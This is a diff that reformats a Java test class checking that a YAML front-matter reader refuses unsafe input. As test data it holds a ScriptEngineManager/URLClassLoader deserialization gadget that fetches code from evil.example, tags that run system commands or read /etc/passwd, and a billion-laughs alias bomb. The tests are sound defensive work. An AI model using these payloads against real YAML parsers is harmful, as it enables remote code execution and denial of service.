@@ -1,6 +1,5 @@
 package org.relationstimeline.content;
 
-import org.relationstimeline.problems.Problem;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
@@ -12,6 +11,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.relationstimeline.countries.CountryRegistry;
+import org.relationstimeline.problems.Problem;
 import org.relationstimeline.testing.CpuBudget;
 
 /**
@@ -40,8 +40,9 @@ class YamlSafetyTest {
 
     @Test
     void scriptEngineManagerGadgetIsRefusedAtItsLine() {
-        List<Problem> errors = errors(entry(
-                "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"));
+        List<Problem> errors = errors(
+                entry(
+                        "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"));
         assertThat(errors).hasSize(1);
         Problem p = errors.get(0);
         assertThat(p.line()).as("the summary line of the file").isEqualTo(5);
@@ -50,19 +51,20 @@ class YamlSafetyTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "summary: !!java.io.File /etc/passwd",
-        "summary: !!python/object/apply:os.system [\"id\"]",
-        "summary: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]",
-        "summary: !local value",
-        "summary: !!binary aGVsbG8=",
-        "summary: !!set {a, b}",
-        "summary: !!omap [a: 1]",
-        "summary: !!org.relationstimeline.timeline.Entry {title: x}",
-        "sources:\n  - !!java.net.URL [\"https://example.org/\"]",
-        "!!java.io.File summary: key with a class tag",
-        "!local summary: key with a local tag",
-    })
+    @ValueSource(
+            strings = {
+                "summary: !!java.io.File /etc/passwd",
+                "summary: !!python/object/apply:os.system [\"id\"]",
+                "summary: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]",
+                "summary: !local value",
+                "summary: !!binary aGVsbG8=",
+                "summary: !!set {a, b}",
+                "summary: !!omap [a: 1]",
+                "summary: !!org.relationstimeline.timeline.Entry {title: x}",
+                "sources:\n  - !!java.net.URL [\"https://example.org/\"]",
+                "!!java.io.File summary: key with a class tag",
+                "!local summary: key with a local tag",
+            })
     void anyNonStandardTagIsRefused(String yaml) {
         List<Problem> errors = errors(entry(yaml));
         assertThat(errors).hasSize(1);
@@ -81,23 +83,28 @@ class YamlSafetyTest {
 
     @Test
     void standardTagsWrittenOutAreAccepted() {
-        EntryReader.Result result = reader.read(new SourceFile("content/x.md", "x.md",
-                entry("summary: !!str 1962").getBytes(StandardCharsets.UTF_8)));
+        EntryReader.Result result = reader.read(new SourceFile(
+                "content/x.md", "x.md", entry("summary: !!str 1962").getBytes(StandardCharsets.UTF_8)));
         assertThat(result.entry()).get().extracting(e -> e.summary()).isEqualTo("1962");
     }
 
     @Test
     void billionLaughsIsRefusedQuickly() {
-        StringBuilder yaml = new StringBuilder("lol0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
+        StringBuilder yaml = new StringBuilder(
+                "lol0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
         for (int level = 1; level <= 9; level++) {
             yaml.append("lol").append(level).append(": &a").append(level).append(" [");
-            for (int i = 0; i < 9; i++) yaml.append(i == 0 ? "" : ", ").append("*a").append(level - 1);
+            for (int i = 0; i < 9; i++)
+                yaml.append(i == 0 ? "" : ", ").append("*a").append(level - 1);
             yaml.append("]\n");
         }
-        List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml.toString().strip())));
+        List<Problem> errors =
+                CpuBudget.within(QUICKLY, () -> errors(entry(yaml.toString().strip())));
         assertThat(errors).singleElement().satisfies(p -> {
             assertThat(p.message()).contains("more than 20 aliases");
-            assertThat(p.line()).as("the first level that aliases past the limit").isEqualTo(8);
+            assertThat(p.line())
+                    .as("the first level that aliases past the limit")
+                    .isEqualTo(8);
         });
     }
 
@@ -135,23 +142,29 @@ class YamlSafetyTest {
     @Test
     void deepBlockNestingIsRefused() {
         StringBuilder yaml = new StringBuilder();
-        for (int i = 0; i < 40; i++) yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
+        for (int i = 0; i < 40; i++)
+            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
         yaml.append("  ".repeat(40)).append("leaf");
         List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml.toString())));
-        assertThat(errors).singleElement().satisfies(p -> assertThat(p.message()).containsIgnoringCase("nest"));
+        assertThat(errors)
+                .singleElement()
+                .satisfies(p -> assertThat(p.message()).containsIgnoringCase("nest"));
     }
 
     @Test
     void nestingJustUnderTheLimitIsAccepted() {
         // Twenty levels are plenty for any real entry and must still load (as an unknown key).
-        String yaml = "deep: " + "[".repeat(YamlLimits.DEFAULT.maxDepth() - 1) + "]".repeat(YamlLimits.DEFAULT.maxDepth() - 1);
-        EntryReader.Result result = reader.read(new SourceFile("content/x.md", "x.md", entry(yaml).getBytes(StandardCharsets.UTF_8)));
+        String yaml = "deep: " + "[".repeat(YamlLimits.DEFAULT.maxDepth() - 1)
+                + "]".repeat(YamlLimits.DEFAULT.maxDepth() - 1);
+        EntryReader.Result result =
+                reader.read(new SourceFile("content/x.md", "x.md", entry(yaml).getBytes(StandardCharsets.UTF_8)));
         assertThat(result.entry()).isPresent();
     }
 
     @Test
     void oversizedFileIsRefusedWithTheConfiguredLimit() {
-        EntryReader small = new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(2_000, 1_000, 20, 20, 10_000));
+        EntryReader small =
+                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(2_000, 1_000, 20, 20, 10_000));
         byte[] bytes = (entry("summary: short") + "x".repeat(3_000)).getBytes(StandardCharsets.UTF_8);
         List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(small, bytes));
         assertThat(errors).singleElement().satisfies(p -> {
@@ -162,8 +175,10 @@ class YamlSafetyTest {
 
     @Test
     void oversizedFrontMatterIsRefusedWithTheConfiguredLimit() {
-        EntryReader small = new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
-        List<Problem> errors = errors(small, entry("summary: " + "x".repeat(600)).getBytes(StandardCharsets.UTF_8));
+        EntryReader small =
+                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
+        List<Problem> errors =
+                errors(small, entry("summary: " + "x".repeat(600)).getBytes(StandardCharsets.UTF_8));
         assertThat(errors).singleElement().satisfies(p -> {
             assertThat(p.message()).contains("front matter").contains("limit of 500 bytes");
             assertThat(p.line()).isEqualTo(2);
@@ -173,9 +188,13 @@ class YamlSafetyTest {
     @Test
     void frontMatterLimitCountsBytesNotCharacters() {
         // 300 Cyrillic letters are 600 bytes of UTF-8: over a 500-byte limit though only 300 characters.
-        EntryReader small = new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
-        List<Problem> errors = errors(small, entry("summary: " + "д".repeat(300)).getBytes(StandardCharsets.UTF_8));
-        assertThat(errors).singleElement().satisfies(p -> assertThat(p.message()).contains("limit of 500 bytes"));
+        EntryReader small =
+                new EntryReader(CountryRegistry.loadDefault(), Map.of(), new YamlLimits(100_000, 500, 20, 20, 10_000));
+        List<Problem> errors =
+                errors(small, entry("summary: " + "д".repeat(300)).getBytes(StandardCharsets.UTF_8));
+        assertThat(errors)
+                .singleElement()
+                .satisfies(p -> assertThat(p.message()).contains("limit of 500 bytes"));
     }
 
     @Test
@@ -183,7 +202,9 @@ class YamlSafetyTest {
         // A megabyte of front matter: refused from its length, before SnakeYAML reads it.
         String yaml = "summary: \"" + "a".repeat(YamlLimits.DEFAULT.maxFileBytes() - 200) + "\"";
         List<Problem> errors = CpuBudget.within(QUICKLY, () -> errors(entry(yaml)));
-        assertThat(errors).singleElement().satisfies(p -> assertThat(p.message()).contains("front matter is longer"));
+        assertThat(errors)
+                .singleElement()
+                .satisfies(p -> assertThat(p.message()).contains("front matter is longer"));
     }
 
     @Test
@@ -191,12 +212,16 @@ class YamlSafetyTest {
         YamlLoader loader = new YamlLoader(YamlLimits.DEFAULT);
         assertThatThrownBy(() -> loader.load("a: 1\nb: !!java.util.HashMap {}\n", 10))
                 .isInstanceOf(YamlLoader.YamlException.class)
-                .satisfies(e -> assertThat(((YamlLoader.YamlException) e).position().line()).isEqualTo(11));
+                .satisfies(e -> assertThat(
+                                ((YamlLoader.YamlException) e).position().line())
+                        .isEqualTo(11));
     }
 
     @Test
     void mergeKeyIsAnOrdinaryUnknownKeyNotAMerge() {
-        EntryReader.Result result = reader.read(new SourceFile("content/x.md", "x.md",
+        EntryReader.Result result = reader.read(new SourceFile(
+                "content/x.md",
+                "x.md",
                 entry("base: &b {summary: merged}\n<<: *b").getBytes(StandardCharsets.UTF_8)));
         assertThat(result.entry()).get().extracting(e -> e.summary()).isEqualTo("");
         assertThat(result.problems()).anySatisfy(p -> assertThat(p.message()).contains("'<<'"));
